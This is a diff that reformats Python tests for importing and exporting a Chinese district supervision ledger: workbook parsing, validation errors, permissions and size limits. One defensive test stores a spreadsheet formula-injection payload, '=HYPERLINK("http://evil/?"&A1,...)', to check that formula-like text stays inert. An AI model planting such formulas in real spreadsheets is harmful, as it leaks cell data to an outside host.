@@ -89,9 +89,21 @@ def snapshot(session):
         row["progress"] = round(item.progress, 6)
         rows[path[item.id]] = row
     milestones = {m.id: m for m in session.scalars(select(LedgerMilestone))}
-    reports = sorted((path[r.item_id], r.kind, r.reported_at, r.reported_by, r.value_reached, r.narrative, r.problems,
-                      r.next_steps, r.funds_used, milestones[r.milestone_id].label if r.milestone_id else None)
-                     for r in session.scalars(select(ProgressReport)))  # fmt: skip
+    reports = sorted(
+        (
+            path[r.item_id],
+            r.kind,
+            r.reported_at,
+            r.reported_by,
+            r.value_reached,
+            r.narrative,
+            r.problems,
+            r.next_steps,
+            r.funds_used,
+            milestones[r.milestone_id].label if r.milestone_id else None,
+        )
+        for r in session.scalars(select(ProgressReport))
+    )
     nodes = sorted((path[m.item_id], m.label, m.kind, m.due_at, m.done_at) for m in milestones.values())
     money = sorted(
         (path[i.item_id], i.month, i.planned, i.completed) for i in session.scalars(select(LedgerInvestment))
@@ -100,7 +112,8 @@ def snapshot(session):
 
 
 def test_exporting_the_demo_ledger_and_importing_it_into_an_empty_database_gives_the_same_ledger(
-        own, tmp_path):  # fmt: skip
+    own, tmp_path
+):
     demo(own)
     # a project with a schedule and investment, so those sheets travel too
     project = own.scalar(select(LedgerItem).where(LedgerItem.kind == "project"))
@@ -112,8 +125,15 @@ def test_exporting_the_demo_ledger_and_importing_it_into_an_empty_database_gives
     with other_database(tmp_path) as fresh:
         build_district(fresh)
         add_demo_ledger_units(fresh)
-        result = import_ledger(fresh, actor=who(fresh, "supervisor"), rules=RULES, data=workbook,
-                               filename="督办台账.xlsx", area_code="370102", now=NOW)  # fmt: skip
+        result = import_ledger(
+            fresh,
+            actor=who(fresh, "supervisor"),
+            rules=RULES,
+            data=workbook,
+            filename="督办台账.xlsx",
+            area_code="370102",
+            now=NOW,
+        )
         assert sorted(result.campaigns) == ["DS-HJ", "LX-JD", "SZ-JT", "ZQ-LD"]
         after = snapshot(fresh)
     assert len(after[0]) == len(before[0]) > 90
@@ -139,8 +159,18 @@ def test_the_export_follows_the_filter_on_screen_with_the_light_colours(own):
 
 def office_workbook(rows, headers=None):
     """A ledger the way an office keeps it: a title row, a merged measure cell, a blank row."""
-    headers = headers or ["序号", "上级序号", "层级", "工作内容", "指标名称", "目标值", "计量单位", "牵头单位", "配合单位",
-                          "完成时限"]  # fmt: skip
+    headers = headers or [
+        "序号",
+        "上级序号",
+        "层级",
+        "工作内容",
+        "指标名称",
+        "目标值",
+        "计量单位",
+        "牵头单位",
+        "配合单位",
+        "完成时限",
+    ]
     book = Workbook()
     sheet = book.active
     sheet.title = "督办台账"
@@ -157,20 +187,57 @@ def good_rows(campaign="ZX"):
     rows = [
         ["ZX", None, "行动", "城市更新专项行动", None, None, None, "历下区人民政府", None, None],
         ["一", "ZX", "措施", "老旧小区改造", None, None, None, "历下区住房和城乡建设局", None, None],
-        ["1", "ZX/一", "任务", "改造老旧小区", "改造老旧小区", "38", "个", "历下区住房和城乡建设局", "历下区城市管理局",
-         "2026年12月31日"],
+        [
+            "1",
+            "ZX/一",
+            "任务",
+            "改造老旧小区",
+            "改造老旧小区",
+            "38",
+            "个",
+            "历下区住房和城乡建设局",
+            "历下区城市管理局",
+            "2026年12月31日",
+        ],
         [None, None, None, None, None, None, None, None, None, None],
-        ["2", "ZX/一", "任务", "新增停车泊位", "停车泊位", "1.2万", "个", "LX-JT", None, 46387],  # an Excel serial date
-    ]  # fmt: skip
-    return [[campaign if cell == "ZX" else cell.replace("ZX/", campaign + "/") if isinstance(cell, str) else cell
-             for cell in row] for row in rows]  # fmt: skip
+        [
+            "2",
+            "ZX/一",
+            "任务",
+            "新增停车泊位",
+            "停车泊位",
+            "1.2万",
+            "个",
+            "LX-JT",
+            None,
+            46387,
+        ],  # an Excel serial date
+    ]
+    return [
+        [
+            campaign
+            if cell == "ZX"
+            else cell.replace("ZX/", campaign + "/")
+            if isinstance(cell, str)
+            else cell
+            for cell in row
+        ]
+        for row in rows
+    ]
 
 
 def test_an_office_workbook_with_a_title_row_blank_rows_text_and_serial_dates_and_wan_imports(
     session, district
 ):
-    result = import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=office_workbook(good_rows("ZX-OK")),
-                           filename="台账.xlsx", area_code="370102", now=NOW)  # fmt: skip
+    result = import_ledger(
+        session,
+        actor=who(session, "supervisor"),
+        rules=RULES,
+        data=office_workbook(good_rows("ZX-OK")),
+        filename="台账.xlsx",
+        area_code="370102",
+        now=NOW,
+    )
     assert result.items == 4
     ok = session.scalar(select(LedgerItem).where(LedgerItem.number == "ZX-OK"))
     tasks = {
@@ -194,8 +261,15 @@ def test_a_malformed_workbook_gets_a_row_by_row_report_and_the_database_is_uncha
     rows[4][5] = "约三成"  # a vague target
     count = session.scalar(select(func.count()).select_from(LedgerItem))
     with pytest.raises(LedgerRejected) as rejected:
-        import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=office_workbook(rows),
-                      filename="台账.xlsx", area_code="370102", now=NOW)  # fmt: skip
+        import_ledger(
+            session,
+            actor=who(session, "supervisor"),
+            rules=RULES,
+            data=office_workbook(rows),
+            filename="台账.xlsx",
+            area_code="370102",
+            now=NOW,
+        )
     found = {(e.row, e.column) for e in rejected.value.errors}
     assert found == {(5, "完成时限"), (5, "牵头单位"), (7, "目标值")}, rejected.value.errors
     messages = " ".join(str(e) for e in rejected.value.errors)
@@ -217,8 +291,15 @@ def test_a_workbook_missing_a_required_column_is_refused_naming_it(session, dist
         "备注",
     ]
     with pytest.raises(LedgerRejected) as rejected:
-        import_ledger(session, actor=who(session, "supervisor"), rules=RULES,
-                      data=office_workbook(good_rows("ZX-COL"), headers), filename="台账.xlsx", area_code="370102", now=NOW)  # fmt: skip
+        import_ledger(
+            session,
+            actor=who(session, "supervisor"),
+            rules=RULES,
+            data=office_workbook(good_rows("ZX-COL"), headers),
+            filename="台账.xlsx",
+            area_code="370102",
+            now=NOW,
+        )
     assert [(e.row, e.column, e.message) for e in rejected.value.errors] == [
         (2, "完成时限", "缺少必填列“完成时限”")
     ]
@@ -233,8 +314,15 @@ def test_a_csv_saved_by_excel_in_gbk_imports_too(session, district):
         "ZX,,行动,城市更新,,",
         "1,ZX,任务,拆违,历下区城市管理局,2026/12/31",
     ]
-    result = import_ledger(session, actor=who(session, "supervisor"), rules=RULES,
-                           data="\r\n".join(lines).encode("gb18030"), filename="台账.csv", area_code="370102", now=NOW)  # fmt: skip
+    result = import_ledger(
+        session,
+        actor=who(session, "supervisor"),
+        rules=RULES,
+        data="\r\n".join(lines).encode("gb18030"),
+        filename="台账.csv",
+        area_code="370102",
+        now=NOW,
+    )
     assert result.items == 2
 
 
@@ -242,8 +330,15 @@ def test_only_a_supervisor_imports_a_ledger(session, district):
     from govgrid.domain.errors import Forbidden
 
     with pytest.raises(Forbidden):
-        import_ledger(session, actor=who(session, "dept_officer"), rules=RULES, data=office_workbook(good_rows()),
-                      filename="台账.xlsx", area_code="370102", now=NOW)  # fmt: skip
+        import_ledger(
+            session,
+            actor=who(session, "dept_officer"),
+            rules=RULES,
+            data=office_workbook(good_rows()),
+            filename="台账.xlsx",
+            area_code="370102",
+            now=NOW,
+        )
 
 
 def test_text_that_looks_like_a_formula_stays_text_in_the_export_and_comes_back_unchanged(own, tmp_path):
@@ -251,8 +346,16 @@ def test_text_that_looks_like_a_formula_stays_text_in_the_export_and_comes_back_
     task = own.scalar(
         select(LedgerItem).where(LedgerItem.kind == "task", LedgerItem.lead_unit_id.is_not(None))
     )
-    own.add(ProgressReport(item_id=task.id, kind="progress", reported_at=NOW, reported_by="dept_officer",
-                           value_reached=1, narrative='=HYPERLINK("http://evil/?"&A1,"点击")'))  # fmt: skip
+    own.add(
+        ProgressReport(
+            item_id=task.id,
+            kind="progress",
+            reported_at=NOW,
+            reported_by="dept_officer",
+            value_reached=1,
+            narrative='=HYPERLINK("http://evil/?"&A1,"点击")',
+        )
+    )
     task.consequence = "=1+1"
     own.commit()
     data = export_xlsx(
@@ -266,8 +369,15 @@ def test_text_that_looks_like_a_formula_stays_text_in_the_export_and_comes_back_
     with other_database(tmp_path) as fresh:
         build_district(fresh)
         add_demo_ledger_units(fresh)
-        import_ledger(fresh, actor=who(fresh, "supervisor"), rules=RULES, data=data, filename="a.xlsx",
-                      area_code="370102", now=NOW)  # fmt: skip
+        import_ledger(
+            fresh,
+            actor=who(fresh, "supervisor"),
+            rules=RULES,
+            data=data,
+            filename="a.xlsx",
+            area_code="370102",
+            now=NOW,
+        )
         assert fresh.scalar(
             select(ProgressReport.id).where(ProgressReport.narrative.startswith("=HYPERLINK"))
         )
@@ -310,12 +420,24 @@ def test_bad_cells_the_review_found_are_each_reported(session, district):
     out = io.BytesIO()
     book.save(out)
     with pytest.raises(LedgerRejected) as rejected:
-        import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=out.getvalue(),
-                      filename="复核.xlsx", area_code="370102", now=NOW)  # fmt: skip
+        import_ledger(
+            session,
+            actor=who(session, "supervisor"),
+            rules=RULES,
+            data=out.getvalue(),
+            filename="复核.xlsx",
+            area_code="370102",
+            now=NOW,
+        )
     found = {(e.sheet, e.row, e.column) for e in rejected.value.errors}
-    assert {("督办台账", 3, "牵头单位"), ("督办台账", 4, "目标值"), ("督办台账", 5, "序号"),
-            ("进展记录", 2, "完成值"), ("进展记录", 3, "完成值"),
-            ("投资计划", 3, "计划投资（万元）")} <= found, rejected.value.errors  # fmt: skip
+    assert {
+        ("督办台账", 3, "牵头单位"),
+        ("督办台账", 4, "目标值"),
+        ("督办台账", 5, "序号"),
+        ("进展记录", 2, "完成值"),
+        ("进展记录", 3, "完成值"),
+        ("投资计划", 3, "计划投资（万元）"),
+    } <= found, rejected.value.errors
     assert (
         session.scalar(select(func.count()).select_from(LedgerItem).where(LedgerItem.number == "ZX-REV")) == 0
     )
@@ -338,10 +460,19 @@ def test_a_report_from_the_future_and_a_repeated_month_are_refused(session, dist
     out = io.BytesIO()
     book.save(out)
     with pytest.raises(LedgerRejected) as rejected:
-        import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=out.getvalue(),
-                      filename="未来.xlsx", area_code="370102", now=NOW)  # fmt: skip
-    assert {(e.sheet, e.row, e.column) for e in rejected.value.errors} == {("进展记录", 2, "填报时间"),
-                                                                          ("投资计划", 3, "月份")}  # fmt: skip
+        import_ledger(
+            session,
+            actor=who(session, "supervisor"),
+            rules=RULES,
+            data=out.getvalue(),
+            filename="未来.xlsx",
+            area_code="370102",
+            now=NOW,
+        )
+    assert {(e.sheet, e.row, e.column) for e in rejected.value.errors} == {
+        ("进展记录", 2, "填报时间"),
+        ("投资计划", 3, "月份"),
+    }
 
 
 def test_a_file_over_the_size_limit_is_refused_not_cut(session, district):
@@ -349,8 +480,15 @@ def test_a_file_over_the_size_limit_is_refused_not_cut(session, district):
 
     data = ("序号,层级,工作内容,牵头单位,完成时限\n" + "1,任务,x,y,2026-12-31\n" * (MAX_BYTES // 20)).encode()
     with pytest.raises(LedgerRejected, match="MB"):
-        import_ledger(session, actor=who(session, "supervisor"), rules=RULES, data=data, filename="big.csv",
-                      area_code="370102", now=NOW)  # fmt: skip
+        import_ledger(
+            session,
+            actor=who(session, "supervisor"),
+            rules=RULES,
+            data=data,
+            filename="big.csv",
+            area_code="370102",
+            now=NOW,
+        )
 
 
 def test_a_streets_ledger_cannot_task_a_district_department(session, district):
@@ -360,7 +498,14 @@ def test_a_streets_ledger_cannot_task_a_district_department(session, district):
         "1,ZX-ST,任务,清运,历下区城市管理局,2026-12-31",
     ]
     with pytest.raises(LedgerRejected) as rejected:
-        import_ledger(session, actor=who(session, "admin"), rules=RULES, data="\n".join(lines).encode(),
-                      filename="街道.csv", area_code="370102001", now=NOW)  # fmt: skip
+        import_ledger(
+            session,
+            actor=who(session, "admin"),
+            rules=RULES,
+            data="\n".join(lines).encode(),
+            filename="街道.csv",
+            area_code="370102001",
+            now=NOW,
+        )
     assert [(e.row, e.column) for e in rejected.value.errors] == [(3, "牵头单位")]
     assert "不在本台账的区域" in rejected.value.errors[0].message
